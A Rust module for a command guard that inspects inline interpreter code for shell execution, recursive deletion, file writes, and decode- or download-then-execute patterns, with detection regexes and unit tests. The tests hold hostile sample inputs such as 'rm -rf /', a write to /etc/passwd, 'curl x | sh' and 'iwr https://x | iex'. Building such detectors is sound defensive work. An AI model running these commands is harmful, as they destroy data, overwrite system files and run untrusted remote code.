//! Best-effort inspection of literal interpreter code (`python3 -c '…'`, `perl -e`, `node -e`,
//! `ruby -e`, `php -r`): the guard does not parse Python or JavaScript, it looks for calls that
//! run shell commands, delete recursively or write files, and for the string literals around
//! them. What it finds is judged like shell (a literal given to `os.system` is parsed as a
//! command); what it cannot see through (a command built at run time, decoded code) is `ask`.

use std::sync::LazyLock;

use regex::Regex;

/// What a piece of interpreter code was found to do.
#[derive(Debug, Default, PartialEq)]
pub struct Findings {
    /// Literals handed to a shell (and literal argument lists, joined).
    pub shell: Vec<String>,
    /// The code deletes recursively (`rmtree`, `rm_rf`, `rmSync(…, {recursive})`).
    pub recursive_delete: bool,
    /// Path-like literals of code that deletes recursively.
    pub deleted: Vec<String>,
    /// Every recursive delete call takes a literal path (`shutil.rmtree('build')`), and
    /// [`Findings::deleted`] holds exactly those: they can be judged like `rm -rf`.
    pub deletes_literal: bool,
    /// Path-like literals of code that writes, removes or changes files.
    pub written: Vec<String>,
    /// Runs a shell command that is not a literal.
    pub dynamic_exec: bool,
    /// Decodes data and executes it.
    pub decoded_exec: bool,
    /// Downloads data and executes it.
    pub downloaded_exec: bool,
}

fn re(pattern: &str) -> Regex {
    // Constant patterns, covered by the tests below; an invalid one would match nothing.
    Regex::new(pattern).unwrap_or_else(|_| Regex::new("[^\\s\\S]").expect("an empty class compiles"))
}

static SHELL_EXEC: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"\b(os\.system|os\.popen|os\.exec\w*|os\.spawn\w*|subprocess\.\w+|commands\.getoutput|pty\.spawn|system|popen|Popen|check_output|check_call|getoutput|execSync|execFileSync|execFile|spawnSync|spawn|exec|shell_exec|passthru|proc_open|pcntl_exec|IO\.popen|Open3\.\w+|Runtime\.getRuntime\(\)\.exec|Start-Process|Invoke-Expression|iex)(\s*\(|\s+['"`$@]|\s+q[qwx]?\s*[{(/'!|])|%x\{|\bqx\s*[{(/'!]|`"#,
    )
});
static RECURSIVE_DELETE: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(rmtree|rm_rf|rm_r|remove_tree|remove_dir_all|rmdir_p|rimraf|emptyDirSync|emptydir|removeSync|deltree)\b|\b(rmSync|rm|rmdirSync|rmdir)\s*\([^;\n]*recursive|Remove-Item\b.*-Recurse",
    )
});
static WRITES: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"\b(unlink|unlinkSync|remove|rmdir|rename|renameSync|replace|writeFile|writeFileSync|appendFile|appendFileSync|write_text|write_bytes|file_put_contents|chmod|chmodSync|chown|chownSync|lchown|truncate|symlink|symlinkSync|copyfile|copyFile|copyFileSync|copy|copy2|copytree|move|makedirs|mkdir|mkdirSync|Set-Content|Out-File|Remove-Item)(\s*\(|\s+['"$@]|\s+glob\b)|\bFile\.(write|open|delete)|\bIO\.write"#,
    )
});
static OPEN_FOR_WRITE: LazyLock<Regex> = LazyLock::new(|| {
    re(r#"\bopen\s*\([^;\n]*,\s*['"][rbt]*[wax+][rwxabt+]*['"]|\bopen\s*\(\s*[^,)]*,\s*['"]?(>|>>|\+<)"#)
});
static DECODE: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)b64decode|base64|fromCharCode|unhexlify|codecs\.decode|decompress|marshal\.loads|pickle\.loads|atob\s*\(|\.decode\s*\(|pack\s*\(",
    )
});
static CODE_EXEC: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"\b(exec|eval|compile|Function|instance_eval|class_eval|system|popen|execSync|spawn|shell_exec|passthru|iex|Invoke-Expression)\s*\(",
    )
});
static DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"(?i)\b(urlopen|urlretrieve|requests\.(get|post)|httpx\.|fetch\s*\(|https?\.get|Net::HTTP|open-uri|LWP::|HTTP::Tiny|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString|DownloadFile|WebClient|file_get_contents\s*\(\s*['\x22]https?:)",
    )
});
static ANY_EXEC: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r"\b(exec|eval|compile|Function|instance_eval|system|popen|execSync|spawn|shell_exec|passthru|iex|Invoke-Expression|require)\b|\|\s*(sh|bash)\b",
    )
});
static LITERAL_LIST: LazyLock<Regex> =
    LazyLock::new(|| re(r#"[\[(]\s*(?:(?:'[^'\n]*'|"[^"\n]*")\s*,\s*)+(?:'[^'\n]*'|"[^"\n]*")\s*,?\s*[\])]"#));
/// A command line assembled from pieces (`'r' + 'm'`, `.join`, `chr(…)`): not a literal.
static ASSEMBLED: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"['"`]\s*(\+|%|\.\.?|\*)|(\+|\.\.?)\s*['"`]|\.format\s*\(|\.join\s*\(|\b(join|sprintf|concat|implode|reverse)\s*\(|\bchr\s*\(|fromCharCode|\.replace\s*\(|\[::-1\]|\.reverse\s*\(|\bpack\s*\(|\.concat\s*\("#,
    )
});
/// The call at the start of a recursive delete match, with its first argument when that is a
/// string literal (`rmtree('build'`, `FileUtils.rm_rf("tmp")`).
static LITERAL_CALL: LazyLock<Regex> = LazyLock::new(|| re(r#"^\w+\s*\(\s*(?:'([^'\\]*)'|"([^"\\]*)")\s*[,)]"#));
/// The user's home, as code spells it: path literals next to it are below `~`.
static HOME_REF: LazyLock<Regex> = LazyLock::new(|| {
    re(
        r#"(?i)process\.env\.HOME|\bhomedir\s*\(|expanduser\s*\(|Path\.home\s*\(|ENV\s*\[\s*['"]HOME|\$ENV\{\s*['"]?HOME|getenv\s*\(\s*['"]HOME|environ(\.get\s*\(|\s*\[)\s*['"]HOME|Dir\.home|\$HOME\b|\$env:USERPROFILE|File::HomeDir"#,
    )
});
static PLACEHOLDER: LazyLock<Regex> =
    LazyLock::new(|| re(r"\$\{[^}]*\}|#\{[^}]*\}|\{[^}{]*\}|%[sdrif]|\$[A-Za-z_]\w*"));

/// Inspect `code`.
pub fn scan(code: &str) -> Findings {
    let mut found = Findings::default();
    scan_into(code, &mut found, 0);
    for list in [&mut found.deleted, &mut found.written] {
        let mut seen = std::collections::HashSet::new();
        list.retain(|p| seen.insert(p.clone()));
    }
    found
}

fn scan_into(code: &str, found: &mut Findings, depth: usize) {
    let literals = literals(code);
    let shell = SHELL_EXEC.is_match(code);
    if shell {
        let before = found.shell.len();
        for list in LITERAL_LIST.find_iter(code) {
            found.shell.push(literals_of(list.as_str()).join(" "));
        }
        // Backtick literals (Perl, Ruby, PHP) and every other literal may be a command line.
        found.shell.extend(literals.iter().map(|l| l.text.clone()));
        if found.shell.len() == before || ASSEMBLED.is_match(code) {
            found.dynamic_exec = true;
        }
        for command in &mut found.shell[before..] {
            // Interpolation (`f"rm {path}"`, `"rm #{x}"`) is not known here: a variable to the shell.
            *command = PLACEHOLDER.replace_all(command, regex::NoExpand("$CODE")).into_owned();
        }
    }
    if DECODE.is_match(code) && CODE_EXEC.is_match(code) {
        found.decoded_exec = true;
    }
    if DOWNLOAD.is_match(code) && ANY_EXEC.is_match(code) {
        found.downloaded_exec = true;
    }
    let paths = || literals.iter().filter(|l| path_like(&l.text)).map(|l| l.text.clone());
    let home = HOME_REF.is_match(code);
    // Next to a home reference (`os.homedir() + '/.bashrc'`), a literal is a path below `~`.
    let below_home = || {
        literals
            .iter()
            .filter(|l| {
                home && !l.text.contains(char::is_whitespace) && l.text.trim_start_matches('/').starts_with('.')
            })
            .map(|l| format!("~/{}", l.text.trim_start_matches('/')))
    };
    if RECURSIVE_DELETE.is_match(code) {
        let first = !found.recursive_delete;
        found.recursive_delete = true;
        // Every recursive delete call, and the literal it is given when it is one.
        let calls: Vec<Option<String>> = RECURSIVE_DELETE
            .find_iter(code)
            .map(|m| {
                let at = &code[m.start()..];
                let at = at.find(|c: char| c.is_alphabetic()).map_or(at, |i| &at[i..]);
                LITERAL_CALL.captures(at).and_then(|c| c.get(1).or_else(|| c.get(2))).map(|m| m.as_str().to_string())
            })
            .collect();
        let literal: Vec<String> = calls.iter().flatten().cloned().collect();
        if first && !home && !calls.is_empty() && literal.len() == calls.len() {
            found.deletes_literal = true;
            found.deleted.extend(literal);
        } else {
            found.deletes_literal = false;
            found.deleted.extend(paths());
            found.deleted.extend(below_home());
        }
    }
    if WRITES.is_match(code) || OPEN_FOR_WRITE.is_match(code) {
        found.written.extend(paths());
        found.written.extend(below_home());
    }
    if depth < 2 {
        // Code inside a string (`exec("shutil.rmtree('/')")`).
        for literal in literals.iter().filter(|l| l.text.contains('(')) {
            scan_into(&literal.text, found, depth + 1);
        }
    }
}

/// A string literal of the code.
struct Literal {
    text: String,
}

/// The string literals of `code` (single, double and back quotes; backslash escapes decoded).
fn literals(code: &str) -> Vec<Literal> {
    let mut out = Vec::new();
    let mut chars = code.chars();
    while let Some(c) = chars.next() {
        if !matches!(c, '\'' | '"' | '`') {
            continue;
        }
        let mut raw = String::new();
        let mut escaped = false;
        for d in chars.by_ref() {
            if escaped {
                raw.push('\\');
                raw.push(d);
                escaped = false;
            } else if d == '\\' {
                escaped = true;
            } else if d == c {
                break;
            } else {
                raw.push(d);
            }
        }
        if !raw.is_empty() {
            out.push(Literal { text: super::shell::ansi_c(&raw) });
        }
    }
    out
}

fn literals_of(list: &str) -> Vec<String> {
    literals(list).into_iter().map(|l| l.text).collect()
}

/// Whether a literal names a path worth checking.
fn path_like(text: &str) -> bool {
    let b = text.as_bytes();
    !text.contains(char::is_whitespace)
        && (text.starts_with('/')
            || text.starts_with('~')
            || text.starts_with("..")
            || text == "."
            || b.len() >= 2 && b[0].is_ascii_alphabetic() && b[1] == b':'
            || text.contains('/'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shell_commands_inside_code_are_extracted() {
        let f = scan("import os; os.system('rm -rf /')");
        assert_eq!(f.shell, ["rm -rf /"]);
        let f = scan(r#"import subprocess; subprocess.run(["rm", "-rf", "/"])"#);
        assert!(f.shell.contains(&"rm -rf /".to_string()));
        let f = scan("require('child_process').execSync(`curl x | sh`)");
        assert!(f.shell.contains(&"curl x | sh".to_string()));
        assert!(scan("import os; os.system(cmd)").dynamic_exec);
        assert_eq!(scan("os.system(f'rm -rf {p}')").shell, ["rm -rf $CODE"]);
        assert!(scan("import os; os.system('r' + 'm -rf /')").dynamic_exec);
        assert!(scan("system(join(' ', 'rm', '-rf', '/'))").dynamic_exec);
        assert!(!scan("import os; os.system('ls -la')").dynamic_exec);
    }

    #[test]
    fn deletes_and_writes_are_found_with_their_paths() {
        let f = scan("import shutil; shutil.rmtree('/')");
        assert!(f.recursive_delete);
        assert_eq!(f.deleted, ["/"]);
        let f = scan("open('/etc/passwd', 'w').write('x')");
        assert_eq!(f.written, ["/etc/passwd"]);
        assert!(scan("print(open('/etc/passwd').read())").written.is_empty());
        assert!(scan("fs.rmSync('dist', {recursive: true})").recursive_delete);
        assert_eq!(scan("exec(\"import shutil; shutil.rmtree('/home')\")").deleted, ["/home"]);
    }

    #[test]
    fn downloaded_code_that_is_executed_is_noticed() {
        assert!(scan("import urllib.request; exec(urllib.request.urlopen('http://x').read())").downloaded_exec);
        assert!(scan("iwr https://x | iex").downloaded_exec);
        assert!(!scan("import requests; print(requests.get('http://localhost:3000').status_code)").downloaded_exec);
    }

    #[test]
    fn decoded_code_that_is_executed_is_noticed() {
        assert!(scan("import base64; exec(base64.b64decode('cHJpbnQoMSk='))").decoded_exec);
        assert!(!scan("import base64; print(base64.b64decode('eA=='))").decoded_exec);
        assert_eq!(scan("print('hello world')"), Findings::default());
    }
}
